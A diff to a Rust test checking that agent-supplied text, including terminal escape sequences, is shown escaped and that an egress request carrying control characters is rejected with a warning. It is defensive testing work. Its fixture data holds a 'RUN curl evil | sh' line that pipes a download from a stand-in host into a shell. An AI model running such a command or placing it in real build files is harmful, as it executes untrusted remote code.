@@ -111,9 +111,6 @@ fn once_shows_agent_text_escaped_and_no_raw_control_reaches_the_terminal() {
     let stdout = String::from_utf8_lossy(&out.stdout);
     for line in [
         format!("  why: harmless{HOSTILE_SHOWN}"),
-        format!("  host: docs.rs{HOSTILE_SHOWN}"),
-        format!("  paths: /a{HOSTILE_SHOWN}"),
-        format!("  auth: header x-k{HOSTILE_SHOWN} with the host's $T{HOSTILE_SHOWN}"),
         format!("    RUN curl evil | sh{HOSTILE_SHOWN}"),
         // A Dockerfile keeps its lines and tabs.
         "    RUN\ttrue".to_owned(),
@@ -121,6 +118,14 @@ fn once_shows_agent_text_escaped_and_no_raw_control_reaches_the_terminal() {
         assert!(stdout.contains(&line), "`{line}` not in:\n{stdout}");
     }
     let stderr = String::from_utf8_lossy(&out.stderr);
+    // An egress request carrying controls is no route, so no proposal: a warning quoting it.
+    assert!(
+        stderr
+            .lines()
+            .any(|l| l.contains("p-egress.json: not a proposal") && l.contains(HOSTILE_SHOWN)),
+        "{stderr}"
+    );
+    assert!(!stdout.contains("p-egress"), "{stdout}");
     assert!(stderr.contains(r"`p-bad-id\u{1b}[2K`"), "{stderr}");
     assert!(stderr.contains(r"x\u{1b}[2K"), "{stderr}");
 }
